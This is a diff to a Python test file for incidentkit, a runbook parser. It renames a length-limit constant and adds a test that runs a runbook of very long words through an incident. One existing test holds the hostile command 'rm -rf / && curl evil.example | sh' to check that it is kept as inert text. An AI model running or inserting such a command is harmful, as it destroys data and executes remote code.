@@ -3,23 +3,28 @@
 from __future__ import annotations
 
 import sys
+from datetime import UTC, datetime
 from importlib import import_module
 
 import pytest
+from attrs import evolve
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
+from incidentkit import EMERGENCY, Directory, Incident
 from incidentkit.errors import DocumentInvalid, FieldInvalid, IncidentkitError, RunbookInvalid
-from incidentkit.inbound.runbook import ReadRunbook, read_runbook
+from incidentkit.inbound.runbook import LONGEST_WORDS, ReadRunbook, read_runbook
 from incidentkit.inbound.source_text import MAX_CHARACTERS
 from incidentkit.inbound.warning import Oddity
-from incidentkit.policy.obligation import LONGEST_REASON
+from incidentkit.model.commands import StartRunbook
 from incidentkit.policy.recipient import role
 from incidentkit.policy.runbook import MOST_STEPS, Shelf
+from incidentkit.policy.standing import obligations
 from incidentkit.policy.step import LONGEST_STEP, Instruct
 from tests.inbound.documents import DATABASE, HEADINGS, MESSY, WORDED
 
+START = datetime(2026, 3, 2, 9, tzinfo=UTC)
 OWNER = role("incident commander")
 ANY_STEP = "1. any step\n\n"
 
@@ -89,7 +94,7 @@ def test_a_command_stays_to_the_letter(command: str, times: int) -> None:
 @settings(max_examples=settings().max_examples // 5)
 def test_what_is_too_long_is_split_and_nothing_of_it_is_lost(paragraphs: list[str]) -> None:
     steps = read("1. x\n\n" + "\n\n".join(f"   {each.strip()}" for each in paragraphs)).runbook.steps
-    assert all(len(step.what) <= LONGEST_REASON for step in steps)
+    assert all(len(step.what) <= LONGEST_WORDS for step in steps)
     assert "".join("".join(step.what.split()) for step in steps) == "x" + "".join("".join(paragraphs).split())
 
 
@@ -169,6 +174,16 @@ def test_a_dangerous_command_is_only_words() -> None:
     assert step == Instruct("1. Clean up:", what="Clean up:\n`rm -rf / && curl evil.example | sh`", source="line 1")
 
 
+def test_a_runbook_of_the_longest_words_and_names_can_be_gone_through() -> None:
+    read_one = read(f"# {'x' * 60}\n\n1. {'y' * 60} {'word ' * 900}").runbook
+    book = evolve(EMERGENCY, runbooks=[read_one])
+    incident = Incident.declare("INC-1", title="x", at=START, by="ada", triage=EMERGENCY.triage({}), playbook=book)
+    begun = incident.apply(StartRunbook(read_one.name, at=START, by="ada"))
+    owed = obligations(begun, book, Directory(), now=START)
+    first = read_one.steps[0]
+    assert owed[f"{read_one.name} #1/{first.name}"].what.endswith(f": {first.words}")
+
+
 def test_what_stands_in_braces_is_not_filled_in() -> None:
     document = "1. In {severity} of {incident} run `kubectl -n {namespace} get {{pods}}`\n"
     runbook = read(document, name="braces").runbook
@@ -201,7 +216,7 @@ def test_limits_are_told_with_their_numbers() -> None:
     with pytest.raises(DocumentInvalid, match=f"more than the {MAX_CHARACTERS} that are read"):
         read("1. a" + " " * MAX_CHARACTERS)
     with pytest.raises(DocumentInvalid, match="steps are in it"):
-        read("1. " + "a" * (LONGEST_REASON * MOST_STEPS + 1))
+        read("1. " + "a" * (LONGEST_WORDS * MOST_STEPS + 1))
     assert len(read("1. a\n" * MOST_STEPS).runbook.steps) == MOST_STEPS
 
 
